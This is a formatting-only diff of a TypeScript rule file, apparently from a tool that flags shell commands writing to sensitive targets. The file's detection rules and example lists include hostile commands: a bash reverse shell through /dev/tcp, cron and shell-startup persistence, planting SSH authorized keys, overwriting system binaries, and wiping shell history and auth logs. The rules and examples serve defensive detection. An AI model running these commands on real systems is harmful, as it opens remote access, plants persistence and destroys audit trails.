@@ -1,5 +1,6 @@
 /**
- * Targets: files that nothing may be written to without a person seeing it, whichever program or redirection writes.
+ * Targets: files that nothing may be written to without a person seeing it, whichever program or
+ * redirection writes.
  */
 import type { Danger } from "../rule.js";
 import { belowHome, kindOfPath, resolvePath, type Site } from "../site.js";
@@ -15,7 +16,9 @@ const set = (names: string): ReadonlySet<string> => new Set(names.split(" "));
 
 /** Devices that are no disks, by the beginning of their name. */
 const PLAIN_DEVICES: readonly string[] =
-  "nul zero full random urandom std fd tty pts ptmx console shm cu. usb i2c spi video snd dsp audio input hidraw mqueue log".split(" ");
+  "nul zero full random urandom std fd tty pts ptmx console shm cu. usb i2c spi video snd dsp audio input hidraw mqueue log".split(
+    " ",
+  );
 
 /** Files of a home directory that a shell, an editor, a desktop or a login runs. */
 const RUN_AT_START = set(
@@ -38,7 +41,9 @@ const RUN_AT_START_FOLDERS: readonly string[] = [
   "Library/LaunchAgents/",
 ];
 
-const HISTORIES = set(".bash_history .zsh_history .history .sh_history .mysql_history .psql_history .python_history");
+const HISTORIES = set(
+  ".bash_history .zsh_history .history .sh_history .mysql_history .psql_history .python_history",
+);
 
 function isDisk(path: string): boolean {
   if (!path.startsWith("/dev/")) return false;
@@ -46,17 +51,21 @@ function isDisk(path: string): boolean {
   return !PLAIN_DEVICES.some((plain) => name.startsWith(plain)) && !isSocket(path);
 }
 
-const isSocket = (path: string): boolean => path.startsWith("/dev/tcp/") || path.startsWith("/dev/udp/");
+const isSocket = (path: string): boolean =>
+  path.startsWith("/dev/tcp/") || path.startsWith("/dev/udp/");
 
 function isCron(path: string): boolean {
-  return /^(?:\/private)?(?:\/etc\/(?:cron|anacron)|\/var\/(?:spool\/(?:cron|at|anacron)|at\/|cron\/))/.test(path);
+  return /^(?:\/private)?(?:\/etc\/(?:cron|anacron)|\/var\/(?:spool\/(?:cron|at|anacron)|at\/|cron\/))/.test(
+    path,
+  );
 }
 
 /** Classes of targets; the first one that holds a path names the danger. */
 export const TARGETS: readonly Target[] = [
   {
     ruleId: "network.raw-socket",
-    message: "bash opens a network connection through `/dev/tcp` or `/dev/udp`: the usual way to hand a shell or data to another machine",
+    message:
+      "bash opens a network connection through `/dev/tcp` or `/dev/udp`: the usual way to hand a shell or data to another machine",
     holds: isSocket,
     dangerous: [
       "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
@@ -106,7 +115,8 @@ export const TARGETS: readonly Target[] = [
   },
   {
     ruleId: "write.cron",
-    message: "It writes what the system runs by the clock: the command stays and runs again without anybody asking",
+    message:
+      "It writes what the system runs by the clock: the command stays and runs again without anybody asking",
     holds: isCron,
     dangerous: [
       "echo '* * * * * root id' > /etc/cron.d/x",
@@ -119,7 +129,10 @@ export const TARGETS: readonly Target[] = [
   {
     ruleId: "write.ssh",
     message: "It changes who may log in by SSH or what SSH runs",
-    holds: (path, site) => /^\.ssh(?:\/(?:authorized_keys|config|rc$|environment).*)?$/.test(belowHome(path, site) ?? ""),
+    holds: (path, site) =>
+      /^\.ssh(?:\/(?:authorized_keys|config|rc$|environment).*)?$/.test(
+        belowHome(path, site) ?? "",
+      ),
     dangerous: [
       "echo ssh-ed25519 AAAA x >> ~/.ssh/authorized_keys",
       "cp key.pub $HOME/.ssh/authorized_keys2",
@@ -127,16 +140,23 @@ export const TARGETS: readonly Target[] = [
       "tee -a /home/alice/.ssh/config < x",
       "cp evil.pub ~/.ssh/",
     ],
-    not: ["ssh-keyscan github.com >> ~/.ssh/known_hosts", "cat key.pub >> fixtures/.ssh/authorized_keys", "cat ~/.ssh/config"],
+    not: [
+      "ssh-keyscan github.com >> ~/.ssh/known_hosts",
+      "cat key.pub >> fixtures/.ssh/authorized_keys",
+      "cat ~/.ssh/config",
+    ],
   },
   {
     ruleId: "write.startup-file",
-    message: "It writes a file that every new shell, login or session runs: the command stays and runs again without anybody asking",
+    message:
+      "It writes a file that every new shell, login or session runs: the command stays and runs again without anybody asking",
     holds: (path, site) => {
       const below = belowHome(path, site);
       if (below === undefined) return /^\/Library\/Launch(?:Daemons|Agents)\//.test(path);
       if (below.includes("/completions/")) return false;
-      return RUN_AT_START.has(below) || RUN_AT_START_FOLDERS.some((folder) => below.startsWith(folder));
+      return (
+        RUN_AT_START.has(below) || RUN_AT_START_FOLDERS.some((folder) => below.startsWith(folder))
+      );
     },
     dangerous: [
       'echo "alias ls=id" >> ~/.bashrc',
@@ -182,18 +202,30 @@ export const TARGETS: readonly Target[] = [
   },
   {
     ruleId: "write.cover-tracks",
-    message: "It empties or replaces a history or a log of the system: what happened can no longer be seen",
+    message:
+      "It empties or replaces a history or a log of the system: what happened can no longer be seen",
     holds: (path, site) =>
-      HISTORIES.has(belowHome(path, site) ?? "") || /^\/var\/log\/(?:auth|secure|syslog|messages|wtmp|btmp|lastlog|audit)/.test(path),
-    dangerous: ["> ~/.bash_history", "ln -sf /dev/null ~/.zsh_history", "truncate -s 0 /var/log/auth.log", "echo > /var/log/syslog"],
+      HISTORIES.has(belowHome(path, site) ?? "") ||
+      /^\/var\/log\/(?:auth|secure|syslog|messages|wtmp|btmp|lastlog|audit)/.test(path),
+    dangerous: [
+      "> ~/.bash_history",
+      "ln -sf /dev/null ~/.zsh_history",
+      "truncate -s 0 /var/log/auth.log",
+      "echo > /var/log/syslog",
+    ],
     not: ["tail ~/.bash_history", "cat /var/log/syslog", "echo > var/log/syslog"],
   },
   {
     ruleId: "write.program",
-    message: "It writes a program where every shell looks for programs: other commands run it later by its name",
+    message:
+      "It writes a program where every shell looks for programs: other commands run it later by its name",
     isOrdinaryToInstall: true,
     holds: (path) => /^\/usr\/local\/s?bin\/[^/]+$/.test(path),
-    dangerous: ["echo x > /usr/local/bin/git", "curl -o /usr/local/bin/ls https://x.example", "tee /usr/local/sbin/x < y"],
+    dangerous: [
+      "echo x > /usr/local/bin/git",
+      "curl -o /usr/local/bin/ls https://x.example",
+      "tee /usr/local/sbin/x < y",
+    ],
     not: [
       "cp build/app /usr/local/bin/app",
       "install -m 755 app /usr/local/bin/app",
@@ -250,13 +282,20 @@ export const TARGETS: readonly Target[] = [
 /** Folders beside the system's own into which programs install and scratch. */
 function isOwned(path: string): boolean {
   return (
-    !/^\/(?:opt|srv|mnt|media|run|var|Applications|Volumes|private|nix)(?:\/[^/]*)?$/.test(path) && !/^\/usr\/(?:local|src)$/.test(path)
+    !/^\/(?:opt|srv|mnt|media|run|var|Applications|Volumes|private|nix)(?:\/[^/]*)?$/.test(path) &&
+    !/^\/usr\/(?:local|src)$/.test(path)
   );
 }
 
-/** The danger of writing to what a text names, if any. Installing a file into a folder for it is ordinary (`isInstall`). */
+/**
+ * The danger of writing to what a text names, if any. Installing a file into a folder for it is
+ * ordinary (`isInstall`).
+ */
 export function targetDanger(text: string, site: Site, isInstall = false): Danger | undefined {
   const path = resolvePath(text, site);
   if (path === undefined) return undefined;
-  return TARGETS.find(({ holds, isOrdinaryToInstall }) => !(isInstall && isOrdinaryToInstall === true) && holds(path, site));
+  return TARGETS.find(
+    ({ holds, isOrdinaryToInstall }) =>
+      !(isInstall && isOrdinaryToInstall === true) && holds(path, site),
+  );
 }
